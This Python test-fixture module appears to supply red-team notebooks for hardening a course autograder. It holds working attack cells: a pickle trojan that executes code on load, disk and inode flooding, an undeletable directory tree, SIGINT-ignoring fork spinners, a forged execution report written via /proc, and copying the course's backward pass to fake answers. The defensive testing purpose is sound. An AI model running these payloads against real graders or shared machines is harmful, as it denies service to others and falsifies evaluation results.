"""Notebooks that attack the grader's resources rather than its answer key (an independent
red team's findings, rebuilt on the current lessons): a sandbox that stops reading its
channel, fills its disk, leaves a tree no recursive delete can remove, forks busy loops to
starve the submissions graded beside it, outlasts its time budget, forges its own execution
report, or copies the course's own backward pass. Each is the lesson's *solution* plus the
attack, so the attacker's own row is graded like any other and the honest rows graded in
the same run must not change.
"""

from __future__ import annotations

import nbformat
from grade_fixtures import solution

L01 = "01_neuron_and_sigmoid"
L03 = "03_diamond_network"

# the answer server re-opens its own stdin for writing, fills the pipe and reads from a
# private pipe instead: a grader without a deadline on its writes waits forever
STDIN_HANG = r'''
import builtins
_PAYLOAD = """
import os, sys
if "serve" in sys.argv:
    w = os.open("/proc/self/fd/0", os.O_WRONLY | os.O_NONBLOCK)
    try:
        while True:
            os.write(w, b"x" * 4096)
    except BlockingIOError:
        pass
    r2, w2 = os.pipe()
    sys.modules["__keep__"] = type(sys)("k"); sys.modules["__keep__"].fds = (w, r2, w2)
    sys.stdin = os.fdopen(r2, "r")
"""
class _Trojan:
    def __reduce__(self):
        return (builtins.eval, ("(exec(%r, {}), (lambda z: 0.5))[1]" % _PAYLOAD,))
sigmoid = _Trojan()
'''

# every writable place filled until the disk says no, then held full
DISK_FILL = r'''
import os
blob = b"\0" * (16 << 20)
filled = {}
for top in ("/box", "/tmp", "/dev/shm", os.path.expanduser("~"), "/run"):
    n = 0
    try:
        while n < 200:
            with open(os.path.join(top, f"fill_{n}.bin"), "wb") as fh:
                fh.write(blob)
            n += 1
    except OSError:
        pass
    for size in (1 << 20, 4096, 1):
        try:
            with open(os.path.join(top, f"crumbs_{size}.bin"), "ab", buffering=0) as fh:
                for _ in range(100_000):
                    fh.write(b"\0" * size)
        except OSError:
            pass
    filled[top] = n
print(filled)
'''
HOLD = "import time\ntime.sleep({seconds})\n"

# a tree thousands of levels deep: a recursive delete of the box fails
DEEP_TREE = r'''
import os
fd = os.open("/box", os.O_RDONLY)
for i in range(5000):
    os.mkdir("d", dir_fd=fd)
    nfd = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = nfd
os.close(fd)
'''

# many busy processes in sessions of their own, ignoring SIGINT; later cells keep the
# sandbox alive under the cell limit
SPINNERS = r'''
import os, signal
for _ in range({n}):
    try:
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                pass
    except OSError:
        break
'''

# many empty files: a tmpfs's size does not bound its inodes
FILE_FLOOD = r'''
import os
os.makedirs("/tmp/f", exist_ok=True)
for i in range(60_000):
    try:
        open(f"/tmp/f/{i}", "w").close()
    except OSError:
        break
'''

# the kernel writes the execution report to its driver's stdout (the grader's pipe)
REPORT_FORGE = r'''
import os, json
forged = "course-grade-forged-report: reviewed by TA, fine"
wrote = []
pid = os.getpid()
for _ in range(6):
    try:
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        if b"execute" in open(f"/proc/{pid}/cmdline", "rb").read():
            fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
            os.write(fd, (json.dumps({"notes": [forged], "cell_errors": [], "completed": True,
                                      "out_of_time": False, "answers": False}) + "\n").encode())
            wrote.append(pid)
            break
    except (OSError, ValueError):
        break
raise RuntimeError("course-grade-visible-error: this cell's error must be reported")
'''

# a private twin of the course's backward pass: same code object, a new function
CODE_COPY = r'''
import types
from course.nn.networks import DiamondNet
_b = DiamondNet.backward
_backward_copy = types.FunctionType(_b.__code__, _b.__globals__, "my_backward",
                                    _b.__defaults__, _b.__closure__)
def _grad(I, w1, w2, w3, w4, w5, name):
    net = DiamondNet(w1=w1, w2=w2, w3=w3, w4=w4, w5=w5)
    return _backward_copy(net, I)["grads"][name]
def dO_dw4(I, w1, w2, w3, w4, w5): return _grad(I, w1, w2, w3, w4, w5, "w4")
def dO_dw2(I, w1, w2, w3, w4, w5): return _grad(I, w1, w2, w3, w4, w5, "w2")
def dO_dw1(I, w1, w2, w3, w4, w5): return _grad(I, w1, w2, w3, w4, w5, "w1")
'''
DIRECT_CALL = r'''
from course.nn.networks import DiamondNet
def dO_dw4(I, w1, w2, w3, w4, w5):
    return DiamondNet(w1=w1, w2=w2, w3=w3, w4=w4, w5=w5).backward(I)["grads"]["w4"]
def dO_dw2(I, w1, w2, w3, w4, w5):
    return DiamondNet(w1=w1, w2=w2, w3=w3, w4=w4, w5=w5).backward(I)["grads"]["w2"]
def dO_dw1(I, w1, w2, w3, w4, w5):
    return DiamondNet(w1=w1, w2=w2, w3=w3, w4=w4, w5=w5).backward(I)["grads"]["w1"]
'''

# slow whenever the answers are loaded, and hangs when called (sleeping: no CPU)
SLOW = r'''
import builtins, time
class _SlowLoad:
    def __reduce__(self):
        return (builtins.eval, ("(__import__('time').sleep({load}), "
                                "(lambda *a, **k: __import__('time').sleep(10**6)))[1]",))
def _hang(*args, **kwargs):
    time.sleep(10**6)
sigmoid = _SlowLoad()
sigmoid_prime = scaled_tanh_prime = _hang
'''


def appended(lesson: str, *sources: str):
    """The lesson's solution with ``sources`` as cells at its end."""
    nb = solution(lesson)
    for source in sources:
        nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb
